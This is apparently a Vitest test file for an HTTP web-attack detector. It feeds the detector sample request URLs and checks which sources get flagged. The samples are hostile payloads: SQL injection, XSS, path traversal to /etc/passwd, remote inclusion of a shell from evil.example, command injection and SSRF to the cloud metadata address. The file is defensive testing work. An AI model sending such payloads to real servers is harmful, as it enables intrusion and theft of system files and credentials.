import { describe, expect, it } from 'vitest';
import type { Observation } from '../../src/core/event.js';
import { tagAttack } from '../../src/detectors/web-attacks/enricher.js';
import { fired, http, run, times } from './test-kit.js';

/** The pipeline runs the web-attack enricher before scenarios; the samples do the same. */
function tagged(events: Observation[]): Observation[] {
  for (const o of events) tagAttack(o.event);
  return events;
}

const attacks = [
  '/item?id=1%27%20or%20%271%27%3D%271',
  '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
  '/download?file=../../../../etc/passwd',
  '/page?inc=http://evil.example/shell.txt',
  '/ping?host=127.0.0.1;cat%20/etc/passwd',
];

describe('leuko/http-web-attack', () => {
  it('fires on three distinct classified attacks and quotes the matched fragment', () => {
    const ds = run('leuko/http-web-attack', tagged(attacks.map((u, i) => http(i * 5000, '203.0.113.30', u, 404))));
    expect(ds.map((d) => d.entity.value)).toEqual(['203.0.113.30']);
    expect(ds[0]!.explanation).toMatch(/last matched "[^"]+"/);
    expect(ds[0]!.explanation).toContain('sqli');
  });
  it('ignores ordinary traffic and one attack repeated', () => {
    expect(
      fired(
        'leuko/http-web-attack',
        tagged(times(30, (i) => http(i * 1000, 'a', `/products?id=${i}&sort=price`, 200))),
      ),
    ).toEqual([]);
    expect(fired('leuko/http-web-attack', tagged(times(30, (i) => http(i * 1000, 'b', attacks[0]!, 200))))).toEqual([]);
  });
});

describe('leuko/http-exploit-attempt', () => {
  it('fires on two distinct command-injection or SSRF attempts', () => {
    const urls = ['/ping?host=8.8.8.8;id', '/fetch?url=http://169.254.169.254/latest/meta-data/'];
    expect(
      fired('leuko/http-exploit-attempt', tagged(urls.map((u, i) => http(i * 20_000, '203.0.113.31', u, 200)))),
    ).toEqual(['203.0.113.31']);
  });
  it('does not fire on SQL injection or XSS alone', () => {
    expect(
      fired('leuko/http-exploit-attempt', tagged(attacks.slice(0, 2).map((u, i) => http(i * 1000, 'c', u, 200)))),
    ).toEqual([]);
  });
});
